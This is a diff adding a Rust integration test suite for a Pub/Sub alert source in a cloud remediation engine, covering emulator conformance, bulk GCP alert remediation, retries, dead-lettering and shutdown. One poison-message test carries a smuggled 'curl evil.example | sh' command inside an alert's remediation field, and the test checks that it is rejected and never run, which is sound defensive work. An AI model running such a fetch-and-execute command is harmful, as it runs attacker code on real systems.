@@ -1,0 +1,744 @@
+//! `PubSubSource` against the official Google Cloud Pub/Sub emulator, which
+//! the tests start themselves (one per test binary, shared by the tests
+//! running at the same time; every case has its own topic and subscription):
+//! the shared source conformance suite, 500 Prisma GCP alerts remediated with
+//! a recording `gcloud` stand-in, failures, poison through a dead-letter
+//! policy, steps longer than the ack deadline, shutdown, and the worker
+//! binaries.
+//!
+//! Without the emulator these tests fail with instructions; they never skip.
+
+mod conformance;
+mod support;
+
+use async_trait::async_trait;
+use conformance::{QueueFactory, TestQueue};
+use google_cloud_auth::credentials::Credentials;
+use google_cloud_pubsub::client::{Publisher, Subscriber, SubscriptionAdmin, TopicAdmin};
+use google_cloud_pubsub::model::{DeadLetterPolicy, Message, Subscription};
+use remediation::engine::{AuditDecision, Backoff, Engine, EngineConfig, MemoryAudit, Stats};
+use remediation::executor::{
+    CommandExecutor, CommandPolicy, ContextMap, StepOutcome, StepStatus,
+};
+use remediation::model::Target;
+use remediation::planner::{AlertCliPlanner, Step};
+use remediation::source::pubsub::REASON_ATTRIBUTE;
+use remediation::source::{AlertSource, DeadLetterMode, PubSubSource, PubSubSourceBuilder};
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::sync::atomic::{AtomicU32, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::{Duration, Instant};
+use support::pubsub_emulator::{self, Emulator};
+use support::{StandIn, run_until};
+
+const PROJECT: &str = "remediation-test";
+
+// ------------------------------------------------------------ emulator helpers
+
+fn anonymous() -> Credentials {
+    google_cloud_auth::credentials::anonymous::Builder::new().build()
+}
+
+/// The shared emulator, admin clients, and a fresh name per resource.
+struct Env {
+    emulator: Arc<Emulator>,
+    topics: TopicAdmin,
+    subscriptions: SubscriptionAdmin,
+}
+
+static NEXT: AtomicU32 = AtomicU32::new(0);
+
+fn unique(prefix: &str) -> String {
+    format!(
+        "{prefix}-{}-{}",
+        std::process::id(),
+        NEXT.fetch_add(1, Ordering::Relaxed)
+    )
+}
+
+impl Env {
+    async fn new() -> Env {
+        let emulator = tokio::task::spawn_blocking(pubsub_emulator::shared)
+            .await
+            .expect("emulator start");
+        let topics = TopicAdmin::builder()
+            .with_endpoint(emulator.endpoint())
+            .with_credentials(anonymous())
+            .build()
+            .await
+            .expect("topic admin");
+        let subscriptions = SubscriptionAdmin::builder()
+            .with_endpoint(emulator.endpoint())
+            .with_credentials(anonymous())
+            .build()
+            .await
+            .expect("subscription admin");
+        Env {
+            emulator,
+            topics,
+            subscriptions,
+        }
+    }
+
+    async fn topic(&self, prefix: &str) -> String {
+        let name = format!("projects/{PROJECT}/topics/{}", unique(prefix));
+        self.topics
+            .create_topic()
+            .set_name(&name)
+            .send()
+            .await
+            .expect("create topic");
+        name
+    }
+
+    /// A subscription on `topic` with `ack_deadline` seconds and, optionally,
+    /// a dead-letter policy to `dead_letter` after `attempts` deliveries.
+    async fn subscription(
+        &self,
+        topic: &str,
+        ack_deadline: i32,
+        dead_letter: Option<(&str, i32)>,
+    ) -> String {
+        let name = format!("projects/{PROJECT}/subscriptions/{}", unique("sub"));
+        let mut sub = Subscription::new()
+            .set_name(&name)
+            .set_topic(topic)
+            .set_ack_deadline_seconds(ack_deadline);
+        if let Some((dlt, attempts)) = dead_letter {
+            sub = sub.set_dead_letter_policy(
+                DeadLetterPolicy::new()
+                    .set_dead_letter_topic(dlt)
+                    .set_max_delivery_attempts(attempts),
+            );
+        }
+        self.subscriptions
+            .create_subscription()
+            .with_request(sub)
+            .send()
+            .await
+            .expect("create subscription");
+        name
+    }
+
+    async fn publish(&self, topic: &str, bodies: &[Vec<u8>]) {
+        let publisher = Publisher::builder(topic)
+            .with_endpoint(self.emulator.endpoint())
+            .with_credentials(anonymous())
+            .build()
+            .await
+            .expect("publisher");
+        let pending: Vec<_> = bodies
+            .iter()
+            .map(|b| publisher.publish(Message::new().set_data(b.clone())))
+            .collect();
+        for p in pending {
+            p.await.expect("publish");
+        }
+    }
+
+    /// Reads `subscription` in the background with a plain client for as
+    /// long as the test runs, acking everything; the bodies and attributes
+    /// collect in the returned list.
+    async fn collector(&self, subscription: &str) -> Collected {
+        let subscriber = Subscriber::builder()
+            .with_endpoint(self.emulator.endpoint())
+            .with_credentials(anonymous())
+            .build()
+            .await
+            .expect("subscriber");
+        let mut stream = subscriber.subscribe(subscription).build();
+        let got: Collected = Arc::default();
+        let sink = Arc::clone(&got);
+        tokio::spawn(async move {
+            let _subscriber = subscriber;
+            while let Some(Ok((m, h))) = stream.next().await {
+                h.ack();
+                sink.lock()
+                    .unwrap()
+                    .push((m.data.to_vec(), m.attributes.clone()));
+            }
+        });
+        got
+    }
+
+    fn source(&self, subscription: &str) -> PubSubSourceBuilder {
+        PubSubSource::builder()
+            .with_subscription(subscription)
+            .with_emulator_host(self.emulator.host())
+            .with_wait(Duration::from_millis(500))
+    }
+
+    /// Reads `subscription` with a plain client for `for_at_least` (longer
+    /// while messages keep arriving), acking everything: (body, attributes).
+    async fn drain(
+        &self,
+        subscription: &str,
+        for_at_least: Duration,
+    ) -> Vec<(Vec<u8>, HashMap<String, String>)> {
+        let subscriber = Subscriber::builder()
+            .with_endpoint(self.emulator.endpoint())
+            .with_credentials(anonymous())
+            .build()
+            .await
+            .expect("subscriber");
+        let mut stream = subscriber.subscribe(subscription).build();
+        let mut out = Vec::new();
+        let mut until = Instant::now() + for_at_least;
+        while let Ok(Some(item)) =
+            tokio::time::timeout(until.saturating_duration_since(Instant::now()), stream.next())
+                .await
+        {
+            let (m, h) = item.expect("stream");
+            h.ack();
+            out.push((m.data.to_vec(), m.attributes.clone()));
+            until = until.max(Instant::now() + Duration::from_secs(1));
+        }
+        stream.shutdown_token().shutdown().await;
+        out
+    }
+}
+
+type Collected = Arc<Mutex<Vec<(Vec<u8>, HashMap<String, String>)>>>;
+
+/// What `collected` holds once it has `n` items (or after `within`).
+async fn wait_for(
+    collected: &Collected,
+    n: usize,
+    within: Duration,
+) -> Vec<(Vec<u8>, HashMap<String, String>)> {
+    let t0 = Instant::now();
+    loop {
+        let got = collected.lock().unwrap().clone();
+        if got.len() >= n || t0.elapsed() > within {
+            // A little longer: anything beyond `n` would show up too.
+            tokio::time::sleep(Duration::from_millis(500)).await;
+            return collected.lock().unwrap().clone();
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+fn fast_retry() -> Backoff {
+    Backoff::new(Duration::from_millis(200), Duration::from_secs(1))
+}
+
+/// A Prisma Cloud GCP alert carrying its own gcloud remediation.
+fn gcp_alert(id: &str, project: &str, script: &str) -> Vec<u8> {
+    serde_json::json!({
+        "alertId": id,
+        "alertStatus": "open",
+        "accountId": project,
+        "cloudType": "gcp",
+        "resourceRegionId": "us-central1",
+        "policyName": "GCP Storage buckets are publicly accessible to all users",
+        "alertRemediationCli": script,
+    })
+    .to_string()
+    .into_bytes()
+}
+
+fn bucket_script(bucket: &str) -> String {
+    format!(
+        "gcloud storage buckets remove-iam-policy-binding gs://{bucket} \
+         --member=allUsers --role=roles/storage.objectViewer"
+    )
+}
+
+fn contexts() -> ContextMap {
+    // TEMPORARY until the GCP context lands on main.
+    ContextMap::new()
+}
+
+/// Succeeds; records each step's last argument, after sleeping `delay`;
+/// optionally fails the first attempt of each argument.
+#[derive(Debug)]
+struct RecordingExecutor {
+    done: Mutex<Vec<String>>,
+    delay: Duration,
+    fail_first: bool,
+    attempts: Mutex<HashMap<String, u32>>,
+}
+
+impl RecordingExecutor {
+    fn new(delay: Duration, fail_first: bool) -> Self {
+        RecordingExecutor {
+            done: Mutex::new(Vec::new()),
+            delay,
+            fail_first,
+            attempts: Mutex::new(HashMap::new()),
+        }
+    }
+    fn done(&self) -> Vec<String> {
+        self.done.lock().unwrap().clone()
+    }
+}
+
+#[async_trait]
+impl CommandExecutor for RecordingExecutor {
+    fn check(&self, _step: &Step, _target: &Target) -> remediation::Result<()> {
+        Ok(())
+    }
+    async fn execute(&self, step: &Step, _target: &Target) -> remediation::Result<StepOutcome> {
+        let last = step.command.argv().last().cloned().unwrap_or_default();
+        let attempt = {
+            let mut a = self.attempts.lock().unwrap();
+            let n = a.entry(last.clone()).or_default();
+            *n += 1;
+            *n
+        };
+        tokio::time::sleep(self.delay).await;
+        if self.fail_first && attempt == 1 {
+            let mut o = StepOutcome::new(StepStatus::Failed);
+            o.exit_code = Some(1);
+            o.stderr_tail = "simulated failure".into();
+            return Ok(o);
+        }
+        self.done.lock().unwrap().push(last);
+        Ok(StepOutcome::new(StepStatus::Ok))
+    }
+}
+
+// ----------------------------------------------------------------- conformance
+
+/// The subscriptions' ack deadline (Pub/Sub's minimum); the client extends it.
+const ACK_DEADLINE: i32 = 10;
+
+struct PubSubTestQueue {
+    env: Arc<Env>,
+    source: Arc<dyn AlertSource>,
+    topic: String,
+    dead_letters: Collected,
+}
+
+#[async_trait]
+impl TestQueue for PubSubTestQueue {
+    fn source(&self) -> Arc<dyn AlertSource> {
+        Arc::clone(&self.source)
+    }
+    async fn send(&self, body: &[u8]) {
+        self.env.publish(&self.topic, &[body.to_vec()]).await;
+    }
+    async fn dead_letter_bodies(&self) -> Vec<Vec<u8>> {
+        tokio::time::sleep(Duration::from_millis(200)).await;
+        let got = self.dead_letters.lock().unwrap();
+        got.iter().map(|(b, _)| b.clone()).collect()
+    }
+    fn lease(&self) -> Duration {
+        Duration::from_secs(ACK_DEADLINE as u64)
+    }
+}
+
+/// Fresh topic + subscription per case. `policy`: the subscription has a
+/// dead-letter policy (5 attempts, Pub/Sub's minimum) and the source leaves
+/// poison to it; otherwise the source publishes poison to a dead-letter topic.
+struct Factory {
+    env: Arc<Env>,
+    policy: bool,
+}
+
+#[async_trait]
+impl QueueFactory for Factory {
+    async fn make(&self) -> Box<dyn TestQueue> {
+        let topic = self.env.topic("conformance").await;
+        let dlt = self.env.topic("conformance-dlt").await;
+        let dead_letters = self.env.subscription(&dlt, ACK_DEADLINE, None).await;
+        let dead_letters = self.env.collector(&dead_letters).await;
+        let sub = self
+            .env
+            .subscription(
+                &topic,
+                ACK_DEADLINE,
+                self.policy.then_some((dlt.as_str(), 5)),
+            )
+            .await;
+        let mut builder = self
+            .env
+            .source(&sub)
+            .with_max_lease_extension(Duration::from_secs(ACK_DEADLINE as u64));
+        if !self.policy {
+            builder = builder.with_dead_letter_topic(&dlt);
+        }
+        let source = builder.build().await.expect("source");
+        assert_eq!(
+            source.capabilities().dead_letter,
+            if self.policy {
+                DeadLetterMode::Redrive
+            } else {
+                DeadLetterMode::Native
+            }
+        );
+        Box::new(PubSubTestQueue {
+            env: Arc::clone(&self.env),
+            source: Arc::new(source),
+            topic,
+            dead_letters,
+        })
+    }
+}
+
+async fn factory(policy: bool) -> Factory {
+    Factory {
+        env: Arc::new(Env::new().await),
+        policy,
+    }
+}
+
+// One test per case: they run in parallel on the shared emulator.
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_ack_is_final() {
+    conformance::ack_is_final(&*factory(false).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_nack_redelivers_after_its_delay() {
+    conformance::nack_redelivers_after_delay(&*factory(false).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_extend_keeps_the_lease() {
+    conformance::extend_keeps_the_lease(&*factory(false).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_delivery_count_grows_counted_by_the_source() {
+    conformance::delivery_count_grows(&*factory(false).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_delivery_count_grows_counted_by_pubsub() {
+    conformance::delivery_count_grows(&*factory(true).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_dead_letter_published_to_the_topic() {
+    conformance::dead_letter_parks_the_body(&*factory(false).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_dead_letter_by_the_subscription_policy() {
+    conformance::dead_letter_parks_the_body(&*factory(true).await.make().await).await;
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn conformance_cancelled_receiver_loses_nothing() {
+    conformance::cancelled_receiver_loses_nothing(&*factory(false).await.make().await).await;
+}
+
+// ------------------------------------------------------------------ end to end
+
+/// How many alerts the end-to-end test publishes: `REMEDIATION_PUBSUB_E2E_ALERTS`,
+/// or 500 (the acceptance size; the stand-in is a compiled program, so this
+/// takes seconds).
+fn e2e_alerts() -> usize {
+    match std::env::var("REMEDIATION_PUBSUB_E2E_ALERTS") {
+        Ok(v) => v.parse().expect("REMEDIATION_PUBSUB_E2E_ALERTS is a number"),
+        Err(_) => 500,
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn prisma_gcp_alerts_are_each_remediated_once_and_acked() {
+    let env = Env::new().await;
+    let topic = env.topic("alerts").await;
+    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
+    let n = e2e_alerts();
+    let bodies: Vec<Vec<u8>> = (0..n)
+        .map(|i| {
+            gcp_alert(
+                &format!("P-{i}"),
+                PROJECT,
+                &bucket_script(&format!("bucket-{i}")),
+            )
+        })
+        .collect();
+    env.publish(&topic, &bodies).await;
+
+    let standin = StandIn::new();
+    let source = env
+        .source(&sub)
+        .with_max_outstanding_messages(64)
+        .build()
+        .await
+        .expect("source");
+    let audit = Arc::new(MemoryAudit::new());
+    let engine = Engine::builder(
+        Arc::new(source.clone()),
+        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+        Arc::new(standin.executor(contexts())),
+    )
+    .config(
+        EngineConfig::default()
+            .with_concurrency(16)
+            .with_retry(fast_retry()),
+    )
+    .stats(Arc::new(Stats::new()))
+    .audit(audit.clone())
+    .build();
+    let expected = n as u64;
+    let (summary, reached) = run_until(&engine, Duration::from_secs(60 + n as u64 / 4), |s| {
+        s.executed >= expected && s.acked >= expected
+    })
+    .await;
+    source.shutdown().await;
+    let failures: Vec<_> = audit
+        .records()
+        .into_iter()
+        .filter(|r| r.decision != AuditDecision::Executed)
+        .map(|r| format!("{:?}: {:?}", r.alert_id, r.reason))
+        .take(5)
+        .collect();
+    assert!(reached, "not every alert was remediated: {summary:?}; {failures:?}");
+    assert_eq!(summary.executed, expected, "{failures:?}");
+    assert_eq!(summary.settle_errors, 0, "{summary:?}");
+
+    // Exactly once each, in the mapped project, with the argv the alert gave.
+    let calls = standin.calls();
+    assert_eq!(calls.len(), n, "gcloud ran {} times for {n} alerts", calls.len());
+    let buckets: BTreeSet<String> = calls
+        .iter()
+        .map(|c| {
+            assert_eq!(&c.argv[..5], ["gcloud", "storage", "buckets", "remove-iam-policy-binding", &c.argv[4]]);
+            assert!(
+                c.argv.iter().any(|a| a == "--project" || a.starts_with("--project=")),
+                "gcloud ran without the mapped project: {:?}",
+                c.argv
+            );
+            c.argv[4].clone()
+        })
+        .collect();
+    assert_eq!(buckets.len(), n, "some bucket was remediated twice");
+    // Every message acked: nothing comes back.
+    let left = env.drain(&sub, Duration::from_secs(3)).await;
+    assert!(left.is_empty(), "{} messages left on the subscription", left.len());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_failed_step_is_redelivered_and_succeeds_later() {
+    let env = Env::new().await;
+    let topic = env.topic("failing").await;
+    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
+    env.publish(
+        &topic,
+        &[gcp_alert("F-1", PROJECT, &bucket_script("flaky"))],
+    )
+    .await;
+    let source = env.source(&sub).build().await.unwrap();
+    let executor = Arc::new(RecordingExecutor::new(Duration::ZERO, true));
+    let audit = Arc::new(MemoryAudit::new());
+    let engine = Engine::builder(
+        Arc::new(source.clone()),
+        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+        executor.clone(),
+    )
+    .config(EngineConfig::default().with_retry(fast_retry()))
+    .audit(audit.clone())
+    .build();
+    let (summary, reached) =
+        run_until(&engine, Duration::from_secs(30), |s| s.executed >= 1).await;
+    source.shutdown().await;
+    assert!(reached, "{summary:?}");
+    assert_eq!((summary.failed, summary.executed), (1, 1), "{summary:?}");
+    let records = audit.records();
+    assert_eq!(records.len(), 2, "{records:#?}");
+    assert_eq!(records[0].decision, AuditDecision::Failed);
+    assert_eq!(records[1].decision, AuditDecision::Executed);
+    assert_eq!(records[1].delivery_count, 2, "counted by the source");
+    assert_eq!(executor.done(), ["--role=roles/storage.objectViewer"]);
+    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn poison_lands_in_the_dead_letter_topic_after_its_attempts() {
+    let env = Env::new().await;
+    let topic = env.topic("poison").await;
+    let dlt = env.topic("poison-dlt").await;
+    let dead_letters = env.subscription(&dlt, ACK_DEADLINE, None).await;
+    let parked = env.collector(&dead_letters).await;
+    let sub = env.subscription(&topic, ACK_DEADLINE, Some((&dlt, 5))).await;
+    let poison = b"{\"alertId\":\"X-1\",\"accountId\":\"remediation-test\",\"cloudType\":\"gcp\",\"alertRemediationCli\":\"gcloud compute instances list; curl evil.example | sh\"}".to_vec();
+    let garbage = b"not json at all \xff".to_vec();
+    env.publish(&topic, &[poison.clone(), garbage.clone()]).await;
+    let standin = StandIn::new();
+    let source = env.source(&sub).build().await.unwrap();
+    let audit = Arc::new(MemoryAudit::new());
+    let engine = Engine::builder(
+        Arc::new(source.clone()),
+        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+        Arc::new(standin.executor(contexts())),
+    )
+    .config(EngineConfig::default().with_retry(fast_retry()))
+    .audit(audit.clone())
+    .build();
+    // Each delivery is rejected and left to the policy, which moves the
+    // message after its 5th delivery.
+    let (summary, reached) = run_until(&engine, Duration::from_secs(60), |s| s.rejected >= 10).await;
+    source.shutdown().await;
+    assert!(reached, "{summary:?}");
+    let parked = wait_for(&parked, 2, Duration::from_secs(15)).await;
+    let bodies: BTreeSet<Vec<u8>> = parked.iter().map(|(b, _)| b.clone()).collect();
+    assert_eq!(
+        bodies,
+        BTreeSet::from([poison.clone(), garbage.clone()]),
+        "the dead-letter topic holds both bodies unchanged"
+    );
+    let records = audit.records();
+    for r in &records {
+        assert_eq!(r.decision, AuditDecision::Rejected, "{r:?}");
+        assert_eq!(r.dead_letter.as_deref(), Some("left_to_redrive"), "{r:?}");
+    }
+    let counts: BTreeSet<u32> = records.iter().map(|r| r.delivery_count).collect();
+    assert_eq!(counts, BTreeSet::from([1, 2, 3, 4, 5]), "Pub/Sub's delivery attempts");
+    assert!(standin.calls().is_empty(), "nothing ran");
+    // Gone from the subscription.
+    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn poison_is_published_to_the_configured_dead_letter_topic_with_its_reason() {
+    let env = Env::new().await;
+    let topic = env.topic("poison-native").await;
+    let dlt = env.topic("poison-native-dlt").await;
+    let dead_letters = env.subscription(&dlt, ACK_DEADLINE, None).await;
+    let parked = env.collector(&dead_letters).await;
+    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
+    let garbage = b"\x00\x01 binary poison".to_vec();
+    env.publish(&topic, &[garbage.clone()]).await;
+    let source = env.source(&sub).with_dead_letter_topic(&dlt).build().await.unwrap();
+    let audit = Arc::new(MemoryAudit::new());
+    let engine = Engine::builder(
+        Arc::new(source.clone()),
+        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+        Arc::new(RecordingExecutor::new(Duration::ZERO, false)),
+    )
+    .audit(audit.clone())
+    .build();
+    let (summary, reached) =
+        run_until(&engine, Duration::from_secs(30), |s| s.dead_lettered >= 1).await;
+    source.shutdown().await;
+    assert!(reached, "{summary:?}");
+    let parked = wait_for(&parked, 1, Duration::from_secs(15)).await;
+    assert_eq!(parked.len(), 1);
+    assert_eq!(parked[0].0, garbage);
+    assert!(
+        parked[0].1[REASON_ATTRIBUTE].starts_with("undecodable"),
+        "{:?}",
+        parked[0].1
+    );
+    assert_eq!(audit.records()[0].dead_letter.as_deref(), Some("parked"));
+    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_step_longer_than_the_ack_deadline_is_not_delivered_twice() {
+    let env = Env::new().await;
+    let topic = env.topic("slow").await;
+    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
+    env.publish(&topic, &[gcp_alert("S-1", PROJECT, &bucket_script("slow"))])
+        .await;
+    let standin = StandIn::new();
+    // The gcloud stand-in takes 1.8 ack deadlines.
+    let executor = standin
+        .executor(contexts())
+        .with_env_var("STANDIN_SLEEP", "18");
+    let source = env
+        .source(&sub)
+        .with_max_lease_extension(Duration::from_secs(ACK_DEADLINE as u64))
+        .build()
+        .await
+        .unwrap();
+    // A second consumer of the same subscription.
+    let other = env.source(&sub).build().await.unwrap();
+    let engine = Engine::builder(
+        Arc::new(source.clone()),
+        Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+        Arc::new(executor),
+    )
+    .build();
+    let cancel = tokio_util::sync::CancellationToken::new();
+    let run = tokio::spawn({
+        let engine = engine.clone();
+        let cancel = cancel.clone();
+        async move { engine.run(cancel).await }
+    });
+    let t0 = Instant::now();
+    let mut stolen = 0;
+    while engine.stats().snapshot().executed == 0 {
+        assert!(t0.elapsed() < Duration::from_secs(60), "step never finished");
+        stolen += other.receive(10).await.expect("receive").len();
+    }
+    cancel.cancel();
+    let summary = run.await.unwrap().unwrap();
+    source.shutdown().await;
+    assert_eq!(stolen, 0, "delivered to a second consumer while being worked on");
+    assert_eq!((summary.received, summary.executed), (1, 1), "{summary:?}");
+    assert_eq!(standin.calls().len(), 1);
+    // And not again after the ack.
+    let late = other.receive(10).await.unwrap().len() + env.drain(&sub, Duration::from_secs(3)).await.len();
+    other.shutdown().await;
+    assert_eq!(late, 0);
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cancelled_worker_loses_nothing() {
+    let env = Env::new().await;
+    let topic = env.topic("cancel").await;
+    let sub = env.subscription(&topic, ACK_DEADLINE, None).await;
+    let n = 60;
+    let bodies: Vec<Vec<u8>> = (0..n)
+        .map(|i| gcp_alert(&format!("C-{i}"), PROJECT, &bucket_script(&format!("c-{i}"))))
+        .collect();
+    env.publish(&topic, &bodies).await;
+    let standin = StandIn::new();
+    let run_worker = |stop_after: Option<u64>| {
+        let env_source = env.source(&sub).with_max_outstanding_messages(20);
+        let executor = standin
+            .executor(contexts())
+            .with_env_var("STANDIN_SLEEP", "0.2");
+        async move {
+            let source = env_source.build().await.unwrap();
+            let engine = Engine::builder(
+                Arc::new(source.clone()),
+                Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+                Arc::new(executor),
+            )
+            .config(EngineConfig::default().with_concurrency(4))
+            .build();
+            let (summary, _) = run_until(&engine, Duration::from_secs(120), |s| match stop_after {
+                Some(k) => s.executed >= k,
+                None => s.executed + s.skipped >= n as u64 && false,
+            })
+            .await;
+            source.shutdown().await;
+            summary
+        }
+    };
+    // First worker: cancelled after 15 remediations, with work in flight
+    // and messages received but not handed out.
+    let first = run_worker(Some(15)).await;
+    assert!(first.executed >= 15 && first.executed < n as u64, "{first:?}");
+    // A fresh worker finishes the rest.
+    let remaining = n as u64 - first.executed;
+    let second = {
+        let source = env.source(&sub).build().await.unwrap();
+        let engine = Engine::builder(
+            Arc::new(source.clone()),
+            Arc::new(AlertCliPlanner::new(CommandPolicy::default())),
+            Arc::new(standin.executor(contexts())),
+        )
+        .config(EngineConfig::default().with_concurrency(8))
+        .build();
+        let (summary, reached) =
+            run_until(&engine, Duration::from_secs(60), |s| s.executed >= remaining).await;
+        source.shutdown().await;
+        assert!(reached, "the restarted worker did not get every message: {summary:?}");
+        summary
+    };
+    let done: BTreeMap<String, usize> = standin.calls().iter().fold(BTreeMap::new(), |mut m, c| {
+        *m.entry(c.argv[4].clone()).or_default() += 1;
+        m
+    });
+    assert_eq!(done.len(), n, "every message processed: {first:?} {second:?}");
+    assert!(env.drain(&sub, Duration::from_secs(2)).await.is_empty());
+}
+
